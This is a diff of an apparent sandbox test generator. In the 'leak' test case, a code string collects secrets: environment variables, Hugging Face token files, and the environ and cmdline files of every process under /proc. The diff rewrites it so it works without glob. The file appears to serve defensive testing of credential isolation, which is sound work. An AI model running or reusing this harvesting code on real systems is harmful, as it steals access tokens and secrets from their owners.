@@ -185,7 +185,7 @@ def cases(ctx: Context) -> dict:
         + ADD_WRONG,
         ADD_TESTS, {}, None)
     leak = (
-        "import os, glob\n"
+        "import os\n"  # os only: the server imported it, so this runs even where the stdlib is unreadable
         "def grab():\n"
         "    found = []\n"
         "    for k, v in os.environ.items():\n"
@@ -193,7 +193,12 @@ def cases(ctx: Context) -> dict:
         f"    paths = [{ctx.token_file!r}, os.path.expanduser('~/.cache/huggingface/token'),\n"
         "             '/root/.cache/huggingface/token',\n"
         f"             '/proc/{trainer_pid}/environ', '/proc/{os.getppid()}/environ']\n"
-        "    paths += glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline') + glob.glob('/home/*/.cache/huggingface/token')\n"
+        "    for d in os.listdir('/proc'):\n"
+        "        paths += ['/proc/' + d + '/environ', '/proc/' + d + '/cmdline']\n"
+        "    try:\n"
+        "        paths += ['/home/' + d + '/.cache/huggingface/token' for d in os.listdir('/home')]\n"
+        "    except OSError:\n"
+        "        pass\n"
         "    for p in paths:\n"
         "        try:\n"
         "            found.append(open(p, 'rb').read().decode('latin-1'))\n"
